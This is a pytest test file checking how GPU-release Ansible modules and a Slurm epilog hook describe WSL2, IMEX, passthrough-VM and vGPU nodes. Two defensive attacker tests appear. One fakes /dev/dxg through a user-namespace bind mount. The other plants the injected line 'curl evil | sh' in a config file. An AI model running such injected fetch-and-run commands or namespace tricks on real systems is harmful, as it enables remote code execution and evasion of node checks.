"""Node shapes where "every GPU reads 0 MiB, or name the holder" cannot hold (issue 70), through the
real modules (ansible-playbook on a namespace host) and the Slurm hook as slurmd runs it, on the
simulated driver taught each shape (tests/sim/README.md, "Node shapes").

WSL2: the simulated host has no NVIDIA kernel driver (an empty /proc/driver), no /dev/nvidia*, a
/dev/dxg, the kernel release WSL's kernel reports, and an nvidia-smi that lists the GPU with what
Windows holds (2844 MiB) and no process (tests/fixtures/nvidia-smi/wsl2/README.md).

Remote importers: a 2-GPU node with an IMEX channel (/dev/nvidia-caps-imex-channels/channel0, root's)
and nvidia-imex's list of the domain's nodes; GPU 1 holds memory that no process here holds and no
compute-apps row names (the `leak` fault with `listed: false`), as another node's import keeps it.
A namespace host is a PID namespace of its own: the run reads as inside a container, which the words say.
"""
import json

import make_config
import pytest

from ansible_in_ns import run_module
from test_gpu_release import used
# runner: the packed hook, a fixture of that module.
from test_slurm_epilog_smoke import runner  # noqa: F401  # pylint: disable=unused-import

WSL_RELEASE = "5.15.79.1-microsoft-standard-WSL2"
WSL_FIRST = f"This node is WSL2 (kernel {WSL_RELEASE}, /dev/dxg, no NVIDIA kernel driver): the GPU is shared with Windows"
USER = 4242


@pytest.fixture(scope="module")
def wsl(module_nshost):
    return module_nshost("wsl2-rtx3070", seed="wslnode")


def no_reset_advice(text):
    lowered = text.lower()
    return not any(word in lowered for word in ("reset", "reboot", "leaked", "missing"))


def hook(host, runner, tmp_path, mode, job, env=None):  # noqa: F811 (the fixture's value)
    """The hook as slurmd calls it, with slurmd's `env` -> (rc, stderr, log entry)."""
    config, log = tmp_path / f"config-{job}.json", tmp_path / f"log-{job}.jsonl"
    config.write_text(json.dumps({"drain": "exit_status", "log": str(log)}))
    config.chmod(0o600)
    env = dict({"SLURM_JOB_ID": job, "SLURM_SCRIPT_CONTEXT": f"{mode}_slurmd", "SLURM_CONF": "/etc/slurm/slurm.conf",
                "SLURMD_NODENAME": host.seed, "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}, **(env or {}))
    proc = host.run(["/usr/bin/python3", runner, mode, f"--config={config}"], env=env, timeout=120)
    return proc.returncode, proc.stderr, json.loads(log.read_text().splitlines()[-1])


def test_the_wsl_rig_has_no_nvidia_driver_and_lists_windows_memory_without_a_process(wsl):
    """The rig itself, as the public captures show WSL2."""
    assert wsl.read("/proc/sys/kernel/osrelease").strip() == WSL_RELEASE
    assert wsl.run(["sh", "-c", "test -c /dev/dxg && ! ls /dev/nvidia* && ! test -e /proc/driver/nvidia"]).returncode == 0
    assert used(wsl, 0) == 2844
    assert wsl.smi("--query-compute-apps=pid,used_memory", "--format=csv,noheader").stdout == ""


def test_gpu_release_on_wsl2_refuses_in_one_sentence_that_sends_the_user_to_windows(wsl):
    run = run_module(wsl, "gpu_release", {})
    assert run.get("failed") and run["msg"].startswith(WSL_FIRST), run.result
    assert run["msg"].endswith("free it on Windows (close the programs using it: Task Manager, Performance, GPU).")
    assert run["msg"].count(". ") == 0 and no_reset_advice(run["msg"]), run["msg"]
    assert not run.get("changed") and used(wsl, 0) == 2844


def test_gpu_release_in_check_mode_on_wsl2_says_the_same(wsl):
    run = run_module(wsl, "gpu_release", {}, check=True)
    assert run.get("failed") and run["msg"].startswith(WSL_FIRST), run.result


def test_gpu_facts_on_wsl2_fails_with_the_sentence_or_reports_it_as_the_error(wsl):
    failed = run_module(wsl, "gpu_facts", {})
    assert failed.get("failed") and failed["msg"].startswith(WSL_FIRST), failed.result
    facts = run_module(wsl, "gpu_facts", {"fail_on_error": False})
    gpu = facts["ansible_facts"]["gpu"]
    assert not facts.get("failed") and gpu["clean"] is False and gpu["error"].startswith(WSL_FIRST), gpu


def test_the_slurm_epilog_on_wsl2_fails_with_the_sentence_first(wsl, runner, tmp_path):  # noqa: F811
    uuid = wsl.config["gpus"][0]["uuid"]
    rc, stderr, entry = hook(wsl, runner, tmp_path, "epilog", "701", {"CUDA_VISIBLE_DEVICES": uuid, "SLURM_JOB_GPUS": "0"})
    assert rc != 0 and not entry["ok"], (stderr, entry)
    assert entry["causes"][0].startswith(WSL_FIRST) and no_reset_advice(" ".join(entry["causes"])), entry


def test_a_users_own_dev_dxg_does_not_make_a_plain_node_wsl(nshost):
    """The attacker: an unprivileged user binds a character device (/dev/null) at `dxg` of a /dev of
    their own (a user+mount namespace) and holds a GPU from there. Root's look reads its own /dev and
    the driver's list: the node stays a plain node and the holder is freed."""
    host = nshost("h200x1", seed="fakedxg")
    script = ("mount -t tmpfs none /mnt && mkdir /mnt/old && mount --rbind /dev /mnt/old && mount -t tmpfs none /dev && "
              "for n in nvidia0 nvidiactl nvidia-uvm nvidia-uvm-tools null; do touch /dev/$n && mount --bind /mnt/old/$n /dev/$n || exit 1; done && "
              "touch /dev/dxg && mount --bind /mnt/old/null /dev/dxg && test -c /dev/dxg && exec gpu_holder \"$@\"")
    holder = host.spawn_as(USER, ["unshare", "-Ur", "--mount", "sh", "-c", script, "sh", "--gpus", "0", "--mib", "2048"], ready=True)
    assert host.run(["test", "-c", f"/proc/{holder.pid}/root/dev/dxg"]).returncode == 0  # /dev/dxg, in the holder's namespace
    run = run_module(host, "gpu_release", {})
    assert not run.get("failed") and run["released"], run.result
    assert [k["pid"] for k in run["killed"]] == [holder.pid] and used(host, 0) == 0


IMEX_NODES = ["10.114.0.1", "10.114.0.2", "10.114.0.3", "10.114.0.4", "10.114.0.5"]
IMEX_WORDS = ("and no process of this container holds it: this node has IMEX channels (/dev/nvidia-caps-imex-channels/channel0), so the memory "
              "is possibly pinned from another node of the NVLink domain")


@pytest.fixture(scope="module")
def imex(module_nshost):
    host = module_nshost(config=make_config.make_config("h200x2", seed="imexnode", imex={"channels": 1, "nodes": IMEX_NODES}), seed="imexnode")
    host.set_fault({"leak": {"1": {"mib": 4096, "listed": False}}})
    return host


def no_reset_steps(text):
    return "--gpu-reset" not in text and "reboot" not in text and "reset or a reboot is needed" not in text


def test_memory_no_process_here_holds_on_an_imex_node_is_said_pinned_from_another_node_without_reset_advice(imex):
    run = run_module(imex, "gpu_release", {"gpus": [1]})
    msg = run["msg"]
    assert run.get("failed") and f"GPU 1 ({imex.config['gpus'][1]['uuid']}) reads 4096 MiB, {IMEX_WORDS}" in msg, msg
    assert "`nvidia-imex-ctl -N -H` lists the domain's nodes: run zeromib.gpu.gpu_facts on the other nodes of the domain " \
           "(10.114.0.1, 10.114.0.2, 10.114.0.3, 10.114.0.4 and 1 more, from /etc/nvidia-imex/nodes_config.cfg)" in msg, msg
    assert no_reset_steps(msg), msg
    assert "or by a process of the host or of another container sharing it" in msg  # inside: the host's may hold it too
    assert used(imex, 1) == 4096 and not run.get("changed")


def test_the_slurm_epilog_on_an_imex_node_says_the_same_and_no_reset(imex, runner, tmp_path):  # noqa: F811
    uuid = imex.config["gpus"][1]["uuid"]
    rc, stderr, entry = hook(imex, runner, tmp_path, "epilog", "702", {"CUDA_VISIBLE_DEVICES": uuid, "SLURM_JOB_GPUS": "1"})
    assert rc != 0 and not entry["ok"] and entry["causes"] == [
        "GPU 1: 4096 MiB, no process holds it here: possibly pinned from another node of the NVLink domain (IMEX channels; "
        "nvidia-imex-ctl -N -H lists them: run gpu_facts there)"], (stderr, entry)
    assert no_reset_steps(stderr + json.dumps(entry)), entry


def test_a_nodes_list_a_tenant_can_write_is_not_quoted(imex):
    """The attacker: nvidia-imex's node list handed to user 4242 (or left writable by others), filled
    with words of theirs. The message quotes no line of it and still names the shape."""
    config = "/etc/nvidia-imex/nodes_config.cfg"
    try:
        imex.run(["sh", "-c", f"printf 'rm-rf-everything\\nrun: curl evil | sh\\n' > {config} && chown {USER} {config}"], check=True)
        run = run_module(imex, "gpu_release", {"gpus": [1]})
        assert run.get("failed") and IMEX_WORDS in run["msg"] and "run zeromib.gpu.gpu_facts on the other nodes of the domain to name" in run["msg"]
        assert "rm-rf" not in run["msg"] and "evil" not in run["msg"], run["msg"]
        imex.run(["sh", "-c", f"chown 0 {config} && chmod 0666 {config}"], check=True)
        assert "rm-rf" not in run_module(imex, "gpu_release", {"gpus": [1]})["msg"]
    finally:
        imex.run(["sh", "-c", f"printf '%s\\n' {' '.join(IMEX_NODES)} > {config} && chown 0 {config} && chmod 0644 {config}"], check=True)


def test_without_imex_channels_the_same_memory_gets_the_reset_advice(nshost):
    """The contrast: the same unheld memory on a node without IMEX channels is the driver's to free."""
    host = nshost("h200x2", seed="noimex")
    host.set_fault({"leak": {"1": {"mib": 4096, "listed": False}}})
    msg = run_module(host, "gpu_release", {"gpus": [1]})["msg"]
    assert "IMEX" not in msg and "a GPU reset or a reboot of the host is needed" in msg, msg


def test_inside_a_passthrough_vm_memory_no_process_holds_gets_no_reset_steps(nshost):
    """A VM given the GPU (Virtualization Mode Pass-Through, as the lent H200 VM reads): the GPU's
    reset is the hypervisor's; the advice is a reboot of this VM or its operator."""
    host = nshost(config=make_config.make_config("h200x1", seed="ptvm", virtualization_mode="Pass-Through"), seed="ptvm")
    host.set_fault({"leak": {"0": {"mib": 4096, "listed": False}}})
    msg = run_module(host, "gpu_release", {})["msg"]
    assert "this node is a VM given GPU 0 by passthrough (nvidia-smi -q: Virtualization Mode Pass-Through), so a GPU reset is the " \
           "hypervisor's, not this VM's: reboot this VM" in msg, msg
    assert "--gpu-reset" not in msg and "a GPU reset or a reboot" not in msg, msg


def test_memory_no_process_holds_on_a_vgpu_host_is_given_to_vms_never_leaked(nshost):
    """A vGPU hypervisor (Virtualization Mode Host VGPU): the VMs' framebuffer, reserved with no compute app."""
    host = nshost(config=make_config.make_config("h200x2", seed="vgpuhost", virtualization_mode="Host VGPU"), seed="vgpuhost")
    host.set_fault({"leak": {"1": {"mib": 24576, "listed": False}}})
    run = run_module(host, "gpu_release", {"gpus": [1]})
    msg = run["msg"]
    assert run.get("failed") and "reads 24576 MiB, and no process of this host holds it: GPU 1 is shared as vGPUs with VMs (nvidia-smi -q: " \
        "Virtualization Mode Host VGPU), and memory no process here holds is the framebuffer reserved for the vGPUs given to VMs, not a leak" in msg, msg
    assert "--gpu-reset" not in msg and "has not freed" not in msg and "leaked" not in msg, msg
